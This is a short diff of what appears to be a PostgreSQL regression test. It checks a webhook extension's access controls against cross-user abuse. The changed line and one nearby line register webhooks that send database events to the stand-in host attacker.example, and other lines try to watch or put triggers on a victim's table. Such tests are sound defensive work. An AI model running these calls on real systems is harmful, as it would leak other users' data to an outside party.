@@ -59,7 +59,7 @@ SELECT (attack.attempt($$SELECT webhook.create_webhook('a', 'x.y,guest.*', 'http
 SELECT (attack.attempt($$SELECT webhook.watch('victim.guest', 'mine')$$)).*;
 SELECT (attack.attempt($$SELECT webhook.unwatch('victim.guest')$$)).*;
 SELECT (attack.attempt($$CREATE TRIGGER t AFTER INSERT ON victim.guest FOR EACH ROW EXECUTE FUNCTION webhook.capture()$$)).*;
-SELECT webhook.create_webhook('a', '*', 'https://attacker.example/') AS spy \gset
+SELECT webhook.create_webhook('a', '*', 'https://attacker.example/{event_uid}') AS spy \gset
 SELECT webhook.create_webhook('a', 'later.*', 'https://attacker.example/') AS later \gset
 SELECT (attack.attempt(format($$SELECT webhook.update_webhook(%s, '{"event": "guest.update"}')$$, :later))).*;
 SELECT (attack.attempt(format($$SELECT webhook.update_webhook(%s, '{"owner": "regress_victim"}')$$, :later))).*;
